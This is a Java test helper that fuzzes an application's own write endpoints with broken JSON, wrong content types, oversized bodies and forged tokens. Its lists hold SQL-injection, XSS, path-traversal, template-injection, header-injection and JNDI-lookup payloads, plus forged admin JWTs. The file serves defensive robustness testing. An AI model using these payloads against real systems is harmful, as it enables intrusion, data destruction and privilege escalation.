package kz.ecase.security;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.random.RandomGenerator;

/**
 * Generates hostile and broken requests to the write endpoints: broken JSON, wrong shapes and
 * types, injection strings, oversized bodies, wrong content types, forged tokens, junk in paths.
 * The same seed gives the same requests, so a failure can be replayed.
 */
final class MalformedRequests {

  /** One request to send; {@code what} says how it was made, for the failure message. */
  record Request(String method, String path, List<String> headers, byte[] body, String what) {}

  private static final String[] HOSTILE =
      new String[] {
        "' or '1'='1",
        "'; drop table user_accounts; --",
        "admin'--",
        "\" or \"\"=\"",
        "1; select pg_sleep(10)",
        "\u0000",
        "nul\u0000inside",
        "\ud800",
        "\u202eevil",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "%s%s%s%n",
        "${jndi:ldap://attacker/x}",
        "{{7*7}}",
        "\\",
        "officer\r\nX-Injected: 1",
        "Ωmega 😀 ӘҒҚҢӨҰҮҺІ",
        "",
        " ",
      };

  private static final String[] CONTENT_TYPES =
      new String[] {
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=nothing",
        "application/json; charset=ebcdic",
        "application/octet-stream",
        "*/*",
        "application/json;;;",
      };

  private final List<String> writeEndpoints;
  private final List<String> validTokens;

  /**
   * @param validTokens bearer tokens of real users: half of the requests carry one, so that they
   *     get past authentication into the handlers
   */
  MalformedRequests(List<String> writeEndpoints, List<String> validTokens) {
    this.writeEndpoints = List.copyOf(writeEndpoints);
    this.validTokens = List.copyOf(validTokens);
  }

  Request next(RandomGenerator random) {
    String endpoint = writeEndpoints.get(random.nextInt(writeEndpoints.size()));
    String method = endpoint.substring(0, endpoint.indexOf(' '));
    String path = fillPath(endpoint.substring(endpoint.indexOf(' ') + 1), random);
    List<String> headers = new ArrayList<>(List.of("Content-Type", "application/json"));
    int kind = random.nextInt(100);
    byte[] body;
    String what;
    if (kind < 20) {
      body = utf8(truncated(validLooking(random), random));
      what = "truncated JSON";
    } else if (kind < 30) {
      body = randomBytes(random, 1 + random.nextInt(2000));
      what = "random bytes";
    } else if (kind < 45) {
      body = utf8(wrongShape(random));
      what = "wrong JSON shape or types";
    } else if (kind < 50) {
      body = utf8(deeplyNested(random));
      what = "deeply nested JSON";
    } else if (kind < 62) {
      body = utf8(hostileFields(random));
      what = "hostile strings in fields";
    } else if (kind < 72) {
      headers = new ArrayList<>(List.of("Content-Type", pick(CONTENT_TYPES, random)));
      body = utf8(kind % 2 == 0 ? "<token><username>officer</username></token>" : "a=b&c=%ZZ");
      what = "wrong content type";
    } else if (kind < 73) {
      body = utf8("{\"username\":\"" + "x".repeat(2_000_000 + random.nextInt(1_000_000)) + "\"}");
      what = "oversized body";
    } else if (kind < 88) {
      headers.add("Authorization");
      headers.add(forgedAuthorization(random));
      body = utf8(hostileFields(random));
      what = "forged authorization";
    } else if (kind < 94) {
      headers.add("X-Junk");
      headers.add("y".repeat(9_000 + random.nextInt(30_000)));
      body = utf8("{}");
      what = "oversized header";
    } else {
      path = path + "?" + junkQuery(random);
      body = utf8(wrongShape(random));
      what = "junk query string";
    }
    if (!headers.contains("Authorization") && random.nextBoolean()) {
      headers.add("Authorization");
      headers.add("Bearer " + validTokens.get(random.nextInt(validTokens.size())));
      what = what + ", signed in";
    }
    return new Request(method, path, headers, body, what);
  }

  private static String fillPath(String pattern, RandomGenerator random) {
    StringBuilder path = new StringBuilder();
    for (String segment : pattern.split("/")) {
      if (segment.isEmpty()) {
        continue;
      }
      path.append('/');
      path.append(segment.startsWith("{") ? junkSegment(random) : segment);
    }
    return path.toString();
  }

  private static String junkSegment(RandomGenerator random) {
    return pick(
        new String[] {
          "-1",
          "99999999999999999999999",
          "%27%20or%201%3D1",
          "..%2F..%2Fetc",
          "%00",
          "%E2%80%AE",
          "x".repeat(1 + random.nextInt(3000)),
          String.valueOf(random.nextLong()),
        },
        random);
  }

  private static String junkQuery(RandomGenerator random) {
    return pick(
        new String[] {
          "a=%25ZZ&b=%C3%28",
          "index=-1&treeSize=abc",
          "x=" + "q".repeat(random.nextInt(5000)),
          "%00=%00",
          "a%5B%5D=1&a%5B%5D=2&a%5Bb%5D=c",
          "lang=%27%3B%20drop%20table%20units%3B--",
        },
        random);
  }

  private static String validLooking(RandomGenerator random) {
    return "{\"username\":\""
        + pick(HOSTILE, random)
        + "\",\"password\":\"demo\",\"pin\":\"123456\"}";
  }

  private static String truncated(String json, RandomGenerator random) {
    return json.substring(0, random.nextInt(json.length()));
  }

  private static String wrongShape(RandomGenerator random) {
    return pick(
        new String[] {
          "[]",
          "null",
          "42",
          "\"just a string\"",
          "{\"username\":42,\"password\":true}",
          "{\"username\":{\"$ne\":null},\"password\":[1,2]}",
          "{\"username\":null,\"password\":null}",
          "{\"username\":\"officer\"}",
          "{\"password\":\"demo\"}",
          "{\"username\":\"officer\",\"password\":\"demo\",\"role\":\"ADMIN\",\"unit\":\"71\"}",
          "{\"username\":1e999,\"password\":-0}",
          "{\"username\":\"a\",\"username\":\"b\",\"password\":\"c\"}",
          "{\"pin\":12345678901234567890,\"documentHash\":[]}",
          "{}",
          "",
        },
        random);
  }

  private static String deeplyNested(RandomGenerator random) {
    int depth = 1_000 + random.nextInt(50_000);
    boolean arrays = random.nextBoolean();
    return (arrays ? "[" : "{\"a\":").repeat(depth) + (arrays ? "]" : "}").repeat(depth);
  }

  private static String hostileFields(RandomGenerator random) {
    String username = pick(HOSTILE, random);
    if (random.nextInt(4) == 0) {
      username = username.repeat(1 + random.nextInt(5000));
    }
    return "{\"username\":\""
        + jsonEscape(username)
        + "\",\"password\":\""
        + jsonEscape(pick(HOSTILE, random))
        + "\",\"pin\":\""
        + jsonEscape(pick(HOSTILE, random))
        + "\"}";
  }

  private static String forgedAuthorization(RandomGenerator random) {
    return pick(
        new String[] {
          "Bearer " + "a".repeat(1 + random.nextInt(500)),
          "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsImVjYXNlX3JvbGUiOiJBRE1JTiJ9.",
          "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJl",
          "Basic YWRtaW46ZGVtbw==",
          "Bearer",
          "Bearer ' or 1=1 --",
          "Negotiate xyz",
        },
        random);
  }

  private static String jsonEscape(String text) {
    StringBuilder out = new StringBuilder();
    for (char c : text.toCharArray()) {
      if (c == '"' || c == '\\') {
        out.append('\\').append(c);
      } else if (c < 0x20) {
        out.append(String.format("\\u%04x", (int) c));
      } else {
        out.append(c);
      }
    }
    return out.toString();
  }

  private static byte[] randomBytes(RandomGenerator random, int size) {
    byte[] bytes = new byte[size];
    random.nextBytes(bytes);
    return bytes;
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static String pick(String[] options, RandomGenerator random) {
    return options[random.nextInt(options.length)];
  }
}
